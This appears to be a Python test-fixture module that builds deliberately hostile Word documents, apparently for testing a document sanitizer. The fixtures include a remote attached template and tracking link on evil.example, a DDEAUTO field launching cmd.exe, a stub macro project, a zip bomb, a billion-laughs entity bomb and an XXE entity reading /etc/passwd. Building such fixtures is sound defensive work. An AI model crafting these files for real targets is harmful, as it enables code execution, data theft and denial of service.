"""Hostile reference documents, built from a plain python-docx document for the tests."""

from __future__ import annotations

import io
import zipfile

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def plain_docx() -> bytes:
    import docx

    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "Ministry of Justice letterhead"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rewrite(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """The zip with members replaced (bytes), removed (None) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in change:
                continue
            target.writestr(info, source.read(info.filename))
        for name, blob in change.items():
            if blob is not None:
                target.writestr(name, blob)
    return out.getvalue()


def _add_rel(xml: bytes, rel: str) -> bytes:
    return xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def hostile_docx() -> bytes:
    """Attached template, external hyperlink and image in the header, macros, a DDE field."""
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        settings = z.read("word/settings.xml")
        doc_rels = z.read("word/_rels/document.xml.rels")
        types = z.read("[Content_Types].xml")
        header_name = next(n for n in names if n.startswith("word/header") and n.endswith(".xml"))
        header = z.read(header_name)
    settings = settings.replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdEvil"/><w:linkStyles/><w:zoom'
        .encode(), 1)
    settings_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     f'<Relationships xmlns="{REL_NS}"><Relationship Id="rIdEvil" '
                     f'Type="{R}/attachedTemplate" Target="http://evil.example/t.dotm" '
                     'TargetMode="External"/></Relationships>').encode()
    header = header.replace(
        b"</w:p>",
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdLink"><w:r><w:t>visit</w:t></w:r></w:hyperlink>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'.encode(), 1)
    header_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<Relationships xmlns="{REL_NS}"><Relationship Id="rIdLink" '
                   f'Type="{R}/hyperlink" Target="https://evil.example/track.gif" '
                   'TargetMode="External"/></Relationships>').encode()
    doc_rels = _add_rel(doc_rels, '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                        'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>')
    types = types.replace(b"</Types>", b'<Override PartName="/word/vbaProject.bin" ContentType='
                          b'"application/vnd.ms-office.vbaProject"/></Types>')
    folder, base = header_name.rsplit("/", 1)
    return rewrite(data, {
        "word/settings.xml": settings, "word/_rels/settings.xml.rels": settings_rels,
        header_name: header, f"{folder}/_rels/{base}.rels": header_rels,
        "word/_rels/document.xml.rels": doc_rels, "[Content_Types].xml": types,
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
    })


def macro_enabled_docx() -> bytes:
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        types = z.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return rewrite(data, {"[Content_Types].xml": types})


def bomb_docx(member: str = "word/media/image1.png", size: int = 40 * 2**20) -> bytes:
    """A small file with one member that unpacks to `size` bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info, source.read(info.filename))
        with target.open(member, "w") as handle:
            chunk = b"\0" * 2**20
            for _ in range(size // 2**20):
                handle.write(chunk)
    return out.getvalue()


def _with_styles_dtd(dtd: str, font: str) -> bytes:
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("word/styles.xml").decode()
    at = styles.index("<w:styles")
    styles = styles[:at] + dtd + styles[at:].replace(
        "<w:docDefaults>", f'<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="{font}"/>'
        "</w:rPr></w:rPrDefault>", 1)
    return rewrite(data, {"word/styles.xml": styles.encode()})


def entity_bomb_docx() -> bytes:
    """styles.xml whose entities expand to 10^9 characters (the XML "billion laughs")."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {name} "{("&" + previous + ";") * 10}">'
        for previous, name in zip("abcdefgh", "bcdefghi", strict=True))
    return _with_styles_dtd(f"<!DOCTYPE w:styles [{entities}]>", "&i;")


def external_entity_docx() -> bytes:
    """styles.xml that would read /etc/passwd into a font name (XXE)."""
    return _with_styles_dtd('<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                            "&x;")
